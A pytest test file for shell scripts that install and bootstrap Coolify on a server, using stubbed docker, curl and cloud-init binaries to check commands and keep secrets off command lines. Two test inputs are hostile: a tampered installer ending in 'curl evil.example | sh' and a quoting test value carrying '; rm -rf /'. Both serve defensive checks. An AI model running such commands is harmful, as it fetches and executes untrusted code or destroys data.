"""The remote scripts, run by bash with stub docker, curl and cloud-init on PATH.

The stubs record every command line (and the stdin of the commands that read it) and answer
from a scenario, so each test can assert the exact commands a first run and a rerun send,
and that a secret travels on stdin only, never in a command line.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import stat
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from render.remote import remote_script, required_params
from tests.support import run

PASSWORD = "Root-Password_0f_Coolify.1234"
TOKEN = "PlainApiTokenForCoolify0123456789abcdefghijkl"
COMPOSE = "services:\n  soketi:\n    ports: !reset []\n"

STUB = r'''#!PYTHON
"""Stand-in for docker, curl and cloud-init: logs its call, answers from the scenario."""
import json, os, sys
from pathlib import Path

state = Path(os.environ["STUB_STATE"])
name, args = Path(sys.argv[0]).name, sys.argv[1:]
reads_stdin = name == "docker" and args[:2] == ["exec", "-i"]
stdin = sys.stdin.read() if reads_stdin else None
with open(state / "calls.jsonl", "a") as log:
    log.write(json.dumps({"argv": [name, *args], "stdin": stdin}) + "\n")

def answer(key, default=""):
    path = state / key
    return path.read_text() if path.exists() else default

if name == "cloud-init":
    if args[:2] == ["status", "--wait"]:
        sys.exit(int(answer("cloud_init_rc", "0")))
    print("status: error")
elif name == "curl" and "-o" in args:  # the installer download
    Path(args[args.index("-o") + 1]).write_text(answer("installer"))
elif name == "docker" and args[0] == "inspect":
    value = answer("image" if "{{.Config.Image}}" in args else "health", None)
    if value is None:
        sys.exit(1)
    print(value)
elif name == "docker" and "/api/health" in args[-1]:
    sys.exit(int(answer("api_health_rc", "0")))
elif name == "docker" and "psql" in args:
    sql = args[args.index("-c") + 1] if "-c" in args else ""
    if "FROM users" in sql:
        count = answer("root_users", "1")
        print(count)
        if (state / "seed_creates_root").exists():
            (state / "root_users").write_text("1")
    elif "FROM personal_access_tokens" in sql:
        print(answer("tokens", "0"))
    elif "fqdn" in sql:
        print(answer("fqdn", ""))
'''

FAKE_INSTALLER = """#!/usr/bin/env bash
# Stands in for Coolify's install.sh: records what it was given, brings "Coolify" up.
printf '%s\\n' "version=$1" "autoupdate=$AUTOUPDATE" "user=$USER" "root=$ROOT_USERNAME" \\
  "email=$ROOT_USER_EMAIL" "pool=$DOCKER_ADDRESS_POOL_BASE/$DOCKER_ADDRESS_POOL_SIZE" \\
  "password_given=$([ -n "$ROOT_USER_PASSWORD" ] && echo yes)" > "$STUB_STATE/installer-env"
echo "Root user password: $ROOT_USER_PASSWORD"  # as chatty as the real one
# A first install makes Coolify's own key and takes root's authorized_keys' lines that name
# coolify (scripts/install.sh:890-909 at v4.3.10), failed or not.
if [ ! -f "$STUB_STATE/coolify_db_volume" ]; then
  mkdir -p ~/.ssh && touch ~/.ssh/authorized_keys
  sed -i "/coolify/d" ~/.ssh/authorized_keys
  echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAICoolifysOwnKeyForLocalhost0000000000000 coolify" \
    >> ~/.ssh/authorized_keys
  touch "$STUB_STATE/coolify_db_volume"
fi
[ -f "$STUB_STATE/installer_fails" ] && exit 3
[ -f "$STUB_STATE/installer_breaks" ] && exit 0
echo "docker.io/coollabsio/coolify:$1" > "$STUB_STATE/image"
echo healthy > "$STUB_STATE/health"
"""


@dataclass
class Host:
    """A stand-in server: a PATH with the stubs and a folder with their state."""

    bin: Path
    state: Path
    coolify_dir: Path
    home: Path  # root's

    def set(self, **answers: str) -> None:
        for key, value in answers.items():
            (self.state / key).write_text(value)

    def run(self, script: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
        (self.state / "calls.jsonl").write_text("")
        environment = {**os.environ, "PATH": f"{self.bin}:{os.environ['PATH']}",
                       "STUB_STATE": str(self.state), "HOME": str(self.home)}  # fmt: skip
        return subprocess.run(
            ["bash", "-c", script], input=stdin, capture_output=True, text=True,
            env=environment, timeout=60, check=False,
        )  # fmt: skip

    def calls(self) -> list[dict[str, Any]]:
        lines = (self.state / "calls.jsonl").read_text().splitlines()
        return [json.loads(line) for line in lines]

    def argv(self) -> list[list[str]]:
        return [call["argv"] for call in self.calls()]


@pytest.fixture
def host(tmp_path: Path) -> Host:
    bin_dir, state = tmp_path / "bin", tmp_path / "state"
    bin_dir.mkdir()
    state.mkdir()
    stub = bin_dir / "stub"
    stub.write_text(STUB.replace("#!PYTHON", f"#!{sys.executable}"))
    stub.chmod(stub.stat().st_mode | stat.S_IEXEC)
    for name in ("docker", "curl", "cloud-init"):
        (bin_dir / name).symlink_to(stub)
    # sleep would make the health wait take minutes; the stub answers at once anyway.
    (bin_dir / "sleep").write_text("#!/bin/sh\nexit 0\n")
    (bin_dir / "sleep").chmod(0o755)
    (tmp_path / "root").mkdir()
    return Host(bin_dir, state, tmp_path / "data" / "coolify", tmp_path / "root")


def never_in_argv(host: Host, *secrets: str) -> None:
    for argv in host.argv():
        for secret in secrets:
            assert secret not in " ".join(argv), argv


@pytest.mark.parametrize(
    "name", ["wait-cloud-init", "install-coolify", "bootstrap-api", "install-origin-cert"]
)
def test_scripts_pass_shellcheck(name: str, tmp_path: Path) -> None:
    script = tmp_path / f"{name}.sh"
    script.write_text(remote_script(name, **dict.fromkeys(required_params(name), "value")))
    result = run(["shellcheck", "--severity=style", str(script)])
    assert result.returncode == 0, result.stdout


def test_parameters_must_match_what_the_script_requires() -> None:
    with pytest.raises(
        ValueError, match=r"missing parameters \['INSTANCE_URL'\], unknown \['URL'\]"
    ):
        remote_script("bootstrap-api", URL="https://coolify.example.com")


def test_parameters_are_shell_quoted() -> None:
    script = remote_script("bootstrap-api", INSTANCE_URL="https://x.example.com'; rm -rf /'")
    assert "INSTANCE_URL='https://x.example.com'\"'\"'; rm -rf /'\"'\"''" in script


# --- cloud-init --------------------------------------------------------------------------------


@pytest.mark.parametrize(("status", "ok"), [(0, True), (2, True), (1, False)])
def test_waiting_for_cloud_init(host: Host, status: int, ok: bool) -> None:
    host.set(cloud_init_rc=str(status))
    result = host.run(remote_script("wait-cloud-init"))
    assert (result.returncode == 0) is ok
    assert host.argv()[0] == ["cloud-init", "status", "--wait"]
    if ok:
        assert result.stdout == f"cloud-init finished (status {status})\n"
    else:
        assert host.argv()[1] == ["cloud-init", "status", "--long"]
        assert "cloud-init failed (status 1)" in result.stderr
        assert result.stdout == ""


# --- install -----------------------------------------------------------------------------------


def install_script(host: Host, installer: str = FAKE_INSTALLER, **overrides: str) -> str:
    params = {
        "VERSION": "4.3.10", "SCRIPT_SHA256": hashlib.sha256(installer.encode()).hexdigest(),
        "ROOT_USERNAME": "admin", "ROOT_USER_EMAIL": "ops@example.com",
        "POOL_BASE": "172.16.0.0/12", "COOLIFY_DIR": str(host.coolify_dir),
        "CUSTOM_COMPOSE": base64.b64encode(COMPOSE.encode()).decode(), **overrides,
    }  # fmt: skip
    return remote_script("install-coolify", **params)


INSPECT = [
    ["docker", "inspect", "--format", "{{.Config.Image}}", "coolify"],
    ["docker", "inspect", "--format", "{{.State.Health.Status}}", "coolify"],
]
DOWNLOAD = ["curl", "-fsSL", "--retry", "5", "-o"]
TAG_URL = "https://raw.githubusercontent.com/coollabsio/coolify/v4.3.10/scripts/install.sh"


def test_a_fresh_server_gets_the_pinned_checked_installer(host: Host) -> None:
    host.set(installer=FAKE_INSTALLER)
    result = host.run(install_script(host), stdin=PASSWORD + "\n")
    assert result.returncode == 0, result.stderr
    argv = host.argv()
    assert argv[:2] == INSPECT
    assert argv[2][:5] == DOWNLOAD
    assert argv[2][6] == TAG_URL
    assert argv[3:] == [INSPECT[1]]
    given = (host.state / "installer-env").read_text().splitlines()
    assert given == [
        "version=4.3.10", "autoupdate=false", "user=root", "root=admin",
        "email=ops@example.com", "pool=172.16.0.0/12/24", "password_given=yes",
    ]  # fmt: skip
    assert (host.coolify_dir / "source" / "docker-compose.custom.yml").read_text() == COMPOSE
    never_in_argv(host, PASSWORD)
    assert PASSWORD not in result.stdout + result.stderr


def test_the_installers_output_stays_on_the_server_in_a_root_only_log(host: Host) -> None:
    """pulumi-command prints a failed step's whole output: install.sh's never reaches it."""
    host.set(installer=FAKE_INSTALLER)
    result = host.run(install_script(host), stdin=PASSWORD + "\n")
    log = host.coolify_dir / "source" / "install-by-pulumi.log"
    assert f"Root user password: {PASSWORD}" in log.read_text()
    assert stat.S_IMODE(log.stat().st_mode) == 0o600
    assert "Root user password" not in result.stdout + result.stderr
    host.set(installer_fails="")
    failed = host.run(install_script(host, VERSION="4.3.11"), stdin=PASSWORD + "\n")
    assert failed.returncode == 1
    assert (
        failed.stderr.strip()
        == f"Coolify's install.sh failed; its output is in {log} on the server"
    )
    assert PASSWORD not in failed.stdout + failed.stderr


ADMIN_KEYS = [
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIP2n8PVvPvwWQNWI8BZtMxlYuIaXW43cZ8ikYYlbSuPh "
    "ops@coolify.example.com",
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFhQ3DQxMvj8xk9lUPb0sGsXx6GJ8RbNqc5ZCQ3Yc1Ll alice",
]


@pytest.mark.parametrize("fails", [False, True])
def test_the_installer_cannot_take_an_admins_key(host: Host, fails: bool) -> None:
    """install.sh deletes every authorized_keys line that contains "coolify": an admin whose
    key's comment is ops@coolify.example.com keeps it, even when the install fails."""
    keys = host.home / ".ssh" / "authorized_keys"
    keys.parent.mkdir()
    keys.write_text("".join(f"{key}\n" for key in ADMIN_KEYS))
    host.set(installer=FAKE_INSTALLER, **({"installer_fails": ""} if fails else {}))
    result = host.run(install_script(host), stdin=PASSWORD + "\n")
    assert result.returncode == (1 if fails else 0), result.stderr
    lines = keys.read_text().splitlines()
    assert sorted(lines) == sorted([*ADMIN_KEYS, lines[1]])
    assert lines[1].endswith(" coolify")  # Coolify's own key, which it needs for localhost
    assert (
        "put back a key install.sh removed from root's authorized_keys: ops@coolify.example.com"
        in result.stdout
    )


def test_a_rerun_changes_nothing(host: Host) -> None:
    host.set(installer=FAKE_INSTALLER)
    host.run(install_script(host), stdin=PASSWORD + "\n")
    result = host.run(install_script(host), stdin=PASSWORD + "\n")
    assert result.returncode == 0
    assert "nothing to do" in result.stdout
    assert host.argv() == INSPECT


def test_a_new_version_or_port_override_installs_again(host: Host) -> None:
    host.set(installer=FAKE_INSTALLER)
    host.run(install_script(host), stdin=PASSWORD + "\n")
    host.run(install_script(host, VERSION="4.3.11"), stdin=PASSWORD + "\n")
    assert host.argv()[2][6] == TAG_URL.replace("4.3.10", "4.3.11")
    host.run(
        install_script(
            host, VERSION="4.3.11", CUSTOM_COMPOSE=base64.b64encode(b"services: {}\n").decode()
        ),
        stdin=PASSWORD + "\n",
    )
    assert any(call[:5] == DOWNLOAD for call in host.argv())


def test_an_installer_with_another_checksum_is_not_run(host: Host) -> None:
    host.set(installer=FAKE_INSTALLER + "curl evil.example | sh\n")
    result = host.run(install_script(host), stdin=PASSWORD + "\n")
    assert result.returncode == 1
    assert "does not match its pinned sha256; not running it" in result.stderr
    assert not (host.state / "installer-env").exists()


def test_an_install_that_leaves_coolify_unhealthy_fails(host: Host) -> None:
    host.set(installer=FAKE_INSTALLER, installer_breaks="")
    result = host.run(install_script(host), stdin=PASSWORD + "\n")
    assert result.returncode == 1
    assert "Coolify is not healthy after the install (status: no container)" in result.stderr


# --- API bootstrap ------------------------------------------------------------------------------

URL = "https://coolify.example.com"
PSQL = ["docker", "exec", "-i", "coolify-db", "psql", "-v", "ON_ERROR_STOP=1", "-U", "coolify",
        "-d", "coolify", "-tA"]  # fmt: skip
HEALTH = ["docker", "exec", "coolify", "curl", "-fsS", "http://127.0.0.1:8080/api/health"]
TOKEN_HASH = hashlib.sha256(TOKEN.encode()).hexdigest()
COUNT_ROOT = [*PSQL, "-c", "SELECT count(*) FROM users WHERE id = 0"]
COUNT_TOKEN = [
    *PSQL,
    "-c",
    f"SELECT count(*) FROM personal_access_tokens WHERE token = '{TOKEN_HASH}'",  # noqa: S608 -- the exact text the script sends
]
READ_FQDN = [*PSQL, "-c", "SELECT coalesce(fqdn, '') FROM instance_settings WHERE id = 0"]
VERIFY = ["docker", "exec", "-i", "coolify", "curl", "-fsS", "-H", "@-",
          "http://127.0.0.1:8080/api/v1/version"]  # fmt: skip


def test_bootstrap_enables_the_api_with_the_tokens_hash_only(host: Host) -> None:
    result = host.run(remote_script("bootstrap-api", INSTANCE_URL=URL), stdin=TOKEN + "\n")
    assert result.returncode == 0, result.stderr
    calls = host.calls()
    argv = [c["argv"] for c in calls]
    assert argv[:4] == [HEALTH, COUNT_ROOT, COUNT_TOKEN, PSQL]
    insert = calls[3]["stdin"]
    assert "UPDATE instance_settings SET is_api_enabled = true WHERE id = 0;" in insert
    assert f"'{TOKEN_HASH}', '0', '[\"root\"]'" in insert
    assert TOKEN not in insert  # only its sha256 reaches the database
    assert argv[4] == READ_FQDN
    assert argv[5][:6] == ["docker", "exec", "coolify", "php", "artisan", "tinker"]
    assert f"$s->fqdn = '{URL}'" in argv[5][-1]
    assert argv[6] == VERIFY
    assert calls[6]["stdin"] == f"Authorization: Bearer {TOKEN}\n"
    never_in_argv(host, TOKEN)
    assert TOKEN not in result.stdout + result.stderr


def test_a_bootstrap_rerun_only_checks(host: Host) -> None:
    host.set(tokens="1", fqdn=URL)
    result = host.run(remote_script("bootstrap-api", INSTANCE_URL=URL), stdin=TOKEN + "\n")
    assert result.returncode == 0, result.stderr
    assert host.argv() == [HEALTH, COUNT_ROOT, COUNT_TOKEN, READ_FQDN, VERIFY]


def test_a_missing_root_user_is_seeded_again(host: Host) -> None:
    host.set(root_users="0", seed_creates_root="", tokens="1", fqdn=URL)
    result = host.run(remote_script("bootstrap-api", INSTANCE_URL=URL), stdin=TOKEN + "\n")
    assert result.returncode == 0, result.stderr
    assert [
        "docker",
        "exec",
        "coolify",
        "php",
        "artisan",
        "db:seed",
        "--class=RootUserSeeder",
        "--force",
    ] in host.argv()


def test_a_root_user_that_cannot_be_seeded_fails_clearly(host: Host) -> None:
    host.set(root_users="0")
    result = host.run(remote_script("bootstrap-api", INSTANCE_URL=URL), stdin=TOKEN + "\n")
    assert result.returncode == 1
    assert "Coolify's root user does not exist; see: docker logs coolify" in result.stderr


def test_bootstrap_needs_the_token_on_stdin(host: Host) -> None:
    result = host.run(remote_script("bootstrap-api", INSTANCE_URL=URL))
    assert result.returncode == 1
    assert "no API token on stdin" in result.stderr


def test_bootstrap_gives_up_when_coolify_never_answers(host: Host) -> None:
    host.set(api_health_rc="7")
    result = host.run(remote_script("bootstrap-api", INSTANCE_URL=URL), stdin=TOKEN + "\n")
    assert result.returncode == 1
    assert "did not answer /api/health" in result.stderr
    assert host.argv().count(HEALTH) == 60
